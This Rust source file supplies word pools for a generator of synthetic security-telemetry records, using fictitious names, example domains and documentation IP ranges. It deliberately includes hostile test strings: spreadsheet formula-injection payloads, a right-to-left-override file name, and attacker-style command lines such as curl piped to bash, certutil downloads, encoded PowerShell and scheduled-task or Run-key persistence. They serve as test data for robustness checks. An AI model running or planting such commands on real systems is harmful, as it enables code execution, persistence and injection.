//! Word pools. Everything is generated or generic: names are built from
//! syllables, domains are example.com/.org/.net/.test, addresses come from the
//! documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
//! 2001:db8::/32). No real person, company, domain or address appears.

use crate::hash::{key, Rng};

const SYLLABLES: &[&str] = &[
    "ka", "ro", "mi", "ten", "vel", "lin", "sa", "dor", "bri", "nu", "fa", "zel", "quo", "ri",
    "man", "tis", "pe", "lo", "gar", "ith", "mo", "ven", "ul", "dra",
];

pub const DOMAINS: &[&str] = &[
    "example.com",
    "example.org",
    "example.net",
    "corp.example.test",
];

pub const FILES: &[&str] = &[
    "powershell.exe",
    "cmd.exe",
    "svchost.exe",
    "rundll32.exe",
    "explorer.exe",
    "conhost.exe",
    "msedge.exe",
    "wmic.exe",
    "schtasks.exe",
    "reg.exe",
    "certutil.exe",
    "mshta.exe",
    "python.exe",
    "node.exe",
    "updater.exe",
    "setup-x64.msi",
    "report_2024.xlsm",
    "invoice.pdf.exe",
    "bash",
    "curl",
];

pub const FOLDERS: &[&str] = &[
    r"C:\Windows\System32",
    r"C:\Windows\SysWOW64",
    r"C:\Program Files\Example Tools",
    r"C:\Program Files (x86)\Sample Suite\bin",
    r"C:\ProgramData\Updater",
    r"C:\Users\Public\Downloads",
    r"\\fileserver.example.com\share$\scripts",
    "/usr/bin",
    "/tmp/.cache",
];

pub const ACTION_TYPES: &[&str] = &[
    "ProcessCreated",
    "ConnectionSuccess",
    "ConnectionFailed",
    "InboundConnectionAccepted",
    "FileCreated",
    "FileModified",
    "RegistryValueSet",
    "LogonSuccess",
    "LogonFailed",
    "DnsQueryResponse",
];

pub const COUNTRIES: &[&str] = &[
    "US", "DE", "JP", "BR", "IN", "FR", "GB", "NL", "AU", "ZA", "",
];

pub const INTEGRITY: &[&str] = &["System", "High", "Medium", "Low", ""];
pub const ELEVATION: &[&str] = &[
    "TokenElevationTypeDefault",
    "TokenElevationTypeFull",
    "TokenElevationTypeLimited",
    "None",
];
pub const PLATFORMS: &[&str] = &[
    "Windows10",
    "Windows11",
    "WindowsServer2022",
    "macOS",
    "Linux",
];
pub const PROTOCOLS: &[&str] = &["Tcp", "Udp", "TcpV6", "UdpV6", "Icmp"];

/// Hostile text: what attackers put into command lines, subjects and file
/// names. Each entry breaks a naive CSV writer, spreadsheet, terminal or
/// bidi-unaware display in its own way.
pub const ADVERSARIAL: &[&str] = &[
    "He said \"hello\", then left",
    "line one\r\nline two",
    "bare\nnewline",
    "carriage\rreturn",
    "tab\tseparated\tvalue",
    "=HYPERLINK(\"https://evil.example.com/x\",\"click\")",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\"quoted\"",
    "\"",
    ",",
    "報告書_最終版.docx",
    "测试文件,含逗号.exe",
    "مرحبا بالعالم.txt",
    "שלום-עולם.pdf",
    "invoice\u{202E}fdp.exe",
    "🔥💀 payload 👩‍💻",
    "C:\\Users\\Public\\\\double\\\\backslash\\",
    "\\\\?\\C:\\very\\long\\path",
    "trailing space ",
    " leading space",
    "semi;colon;separated",
    "json-like {\"a\":1}",
    "null",
    "NaN",
    "\u{2028}line separator\u{2029}",
];

pub fn word(r: &mut Rng, syllables: usize) -> String {
    (0..syllables).map(|_| *r.pick(SYLLABLES)).collect()
}

pub fn capitalised(r: &mut Rng, syllables: usize) -> String {
    let w = word(r, syllables);
    let mut c = w.chars();
    match c.next() {
        Some(f) => f.to_uppercase().collect::<String>() + c.as_str(),
        None => w,
    }
}

/// A consistent identity for user number `u` (the same in every table).
pub fn user_first_last(u: u64) -> (String, String) {
    let mut r = Rng::new(key(&[0x05E7, u]));
    (capitalised(&mut r, 2), capitalised(&mut r, 3))
}

pub fn user_sam(u: u64) -> String {
    let (f, l) = user_first_last(u);
    format!("{}.{}", f.to_lowercase(), l.to_lowercase())
}

pub fn user_upn(u: u64) -> String {
    format!("{}@{}", user_sam(u), DOMAINS[(u % 4) as usize])
}

pub fn device_name(d: u64) -> String {
    let mut r = Rng::new(key(&[0xDE71, d]));
    format!("ws-{}-{:02}.corp.example.com", word(&mut r, 2), d % 100)
}

pub fn device_id(d: u64) -> String {
    hex(key(&[0xDE7D, d]), 40)
}

pub fn hex(seed: u64, len: usize) -> String {
    let mut r = Rng::new(seed);
    let mut s = String::with_capacity(len + 16);
    while s.len() < len {
        s.push_str(&format!("{:016x}", r.next_u64()));
    }
    s.truncate(len);
    s
}

pub fn guid(r: &mut Rng) -> String {
    let h = hex(r.next_u64(), 32);
    format!(
        "{}-{}-{}-{}-{}",
        &h[0..8],
        &h[8..12],
        &h[12..16],
        &h[16..20],
        &h[20..32]
    )
}

pub fn ip(r: &mut Rng) -> String {
    match r.below(10) {
        0 => format!("2001:db8:{:x}::{:x}", r.below(0xffff), r.below(0xffff) + 1),
        1 => format!("::ffff:192.0.2.{}", r.below(254) + 1),
        2..=4 => format!("192.0.2.{}", r.below(254) + 1),
        5..=7 => format!("198.51.100.{}", r.below(254) + 1),
        _ => format!("203.0.113.{}", r.below(254) + 1),
    }
}

pub fn url(r: &mut Rng) -> String {
    let host = word(r, 3);
    let dom = *r.pick(DOMAINS);
    match r.below(6) {
        0 => format!(
            "https://{host}.{dom}/login?next=%2Fhome&id={}",
            r.below(99_999)
        ),
        1 => format!("http://{host}.{dom}:8080/a,b/\"c\".php?q=1&x='y'"),
        2 => format!("{host}.{dom}"),
        3 => format!("https://{dom}/{}/{}.zip", word(r, 2), word(r, 3)),
        _ => format!("https://cdn.{dom}/assets/{}.js", word(r, 2)),
    }
}

pub fn email(r: &mut Rng, user: u64) -> String {
    if r.chance(150) {
        format!("{}@{}", word(r, 3), r.pick(DOMAINS))
    } else {
        user_upn(user)
    }
}

pub fn company(r: &mut Rng) -> String {
    format!(
        "{} {}",
        capitalised(r, 2),
        r.pick(&["Software Ltd", "Tools Inc", "Systems GmbH", "Labs"])
    )
}

/// A long PowerShell line with an encoded payload: 1-6 KB, the cells that
/// make result size matter.
pub fn long_command(r: &mut Rng) -> String {
    use base64::Engine;
    let len = r.range(1_000, 6_000) as usize;
    let mut raw = Vec::with_capacity(len);
    while raw.len() < len {
        raw.extend_from_slice(&r.next_u64().to_le_bytes());
    }
    let b64 = base64::engine::general_purpose::STANDARD.encode(&raw);
    format!("powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand {b64}")
}

pub fn command_line(r: &mut Rng, user: u64) -> String {
    let sam = user_sam(user);
    match r.below(10) {
        0 => format!("\"C:\\Windows\\System32\\cmd.exe\" /c echo {} > C:\\Users\\{sam}\\AppData\\Local\\Temp\\{}.txt", word(r, 2), r.below(9999)),
        1 => format!("rundll32.exe C:\\ProgramData\\{}.dll,Start", word(r, 3)),
        2 => "svchost.exe -k netsvcs -p -s Schedule".to_string(),
        3 => format!("\"C:\\Program Files\\Example Tools\\app.exe\" --url \"{}\" --user={sam}", url(r)),
        4 => format!("schtasks /create /tn \"{}\" /tr \"C:\\Users\\Public\\{}.vbs\" /sc minute /mo 5", word(r, 2), word(r, 2)),
        5 => format!("reg.exe add HKCU\\Software\\{}\\Run /v x /d \"%APPDATA%\\{}.exe\" /f", capitalised(r, 2), word(r, 2)),
        6 => format!("curl -s -H 'X-Id: {}' https://{}.example.net/p?a=1,2,3 | bash", r.below(1 << 20), word(r, 2)),
        7 => format!("certutil.exe -urlcache -split -f {} C:\\Users\\Public\\{}.tmp", url(r), word(r, 2)),
        8 => format!("python.exe -c \"import os; print(os.getcwd())\" # {}", word(r, 4)),
        _ => format!("explorer.exe /select,\"C:\\Users\\{sam}\\Documents\\{}\"", r.pick(FILES)),
    }
}
